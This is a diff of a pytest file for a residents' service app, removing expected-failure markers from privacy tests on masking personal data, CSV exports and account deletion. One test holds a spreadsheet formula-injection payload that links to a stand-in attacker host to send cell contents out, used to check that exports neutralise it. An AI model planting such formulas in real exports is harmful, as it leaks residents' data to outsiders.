@@ -157,7 +157,6 @@ def test_a_public_inquiry_shows_masked_contact_details_on_its_page_the_board_and
     assert owner["contact_phone"] == PHONE and owner["address"] == ADDRESS
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: a name written in a public inquiry's text or reply is shown to everyone")
 def test_a_name_written_into_a_public_reply_is_masked(district: World) -> None:
     made = district.inquiry({**bearer(district.resident()), **EN}, contact_name=NAME)
     take_in_and_reply(district, made["token"], reply=f"已联系{NAME}，垃圾已清运。")
@@ -187,9 +186,6 @@ def test_activity_pages_never_show_who_registered_or_voted(district: World) -> N
     assert shown(texts) == []
 
 
-@pytest.mark.xfail(
-    strict=True, reason="BUG: phone and ID numbers in a resident's candidate proposal are shown unmasked"
-)
 def test_candidate_lists_mask_numbers_written_in_a_proposal(district: World) -> None:
     client = district.client
     activity, _ = district.contest("proposals")
@@ -241,7 +237,6 @@ def test_the_registrations_csv_masks_phones_and_id_numbers_on_the_desk_and_the_a
         }
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: an activity form's own phone field is exported unmasked in the CSV")
 def test_the_registrations_csv_masks_every_phone_field_of_the_form(district: World) -> None:
     form = [{"name": "emergency", "label": "紧急联系人电话", "type": "phone", "required": True}]
     activity = district.activity("csv-phone", form=form)
@@ -256,7 +251,6 @@ def test_the_registrations_csv_masks_every_phone_field_of_the_form(district: Wor
     assert PHONE not in json.dumps(rows), rows
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: a registration name starting with = is written into the CSV as a formula")
 def test_the_registrations_csv_neutralises_spreadsheet_formulas(district: World) -> None:
     activity = district.activity("csv-formula")
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
@@ -306,7 +300,6 @@ def test_the_data_export_holds_everything_a_resident_did_in_every_plugin(distric
     assert "attachment" in answer.headers["content-disposition"]
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: the export leaves out the core's own data (favourites, comments, e-mail)")
 def test_the_data_export_holds_the_residents_favourite_articles_comments_and_email(district: World) -> None:
     life = Life(district, phone="13912345002", slug="export-core")
     text = json.dumps(district.client.get("/api/v1/me/export", headers=life.who).json(), ensure_ascii=False)
@@ -403,9 +396,6 @@ def test_the_account_page_deletes_the_account_and_signs_the_browser_out(district
     assert staff_view["contact_phone"] == "" and staff_view["address"] == ""
 
 
-@pytest.mark.xfail(
-    strict=True, reason="BUG: a file replaced in a supplement stays on disk, also after account deletion"
-)
 def test_a_certificate_replaced_in_a_supplement_is_erased_with_the_account(district: World) -> None:
     token = resident(district.client, "13912345006")
     who = {**bearer(token), **EN}
@@ -434,7 +424,6 @@ def test_a_certificate_replaced_in_a_supplement_is_erased_with_the_account(distr
     assert district.files() - before == set()  # neither the first certificate nor the second one is kept
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: account deletion keeps the user's e-mail address and their inbox")
 def test_deleting_the_account_forgets_its_email_and_notifications(district: World) -> None:
     life = Life(district, phone="13912345004", slug="forget-email")
     while call(district.client, district.client.app.state.newsplus.dispatcher.deliver_pending):
@@ -455,9 +444,6 @@ def test_deleting_the_account_forgets_its_email_and_notifications(district: Worl
     assert call(district.client, kept) == {"emails": 0, "notifications": 0}
 
 
-@pytest.mark.xfail(
-    strict=True, reason="BUG: numbers a resident wrote into an inquiry's text survive their account's deletion"
-)
 def test_deleting_the_account_masks_the_numbers_written_into_its_inquiries(district: World) -> None:
     token = district.resident()
     made = district.inquiry({**bearer(token), **EN}, body=f"我的电话{PHONE}，身份证{GOOD_ID}，住{ADDRESS}。")
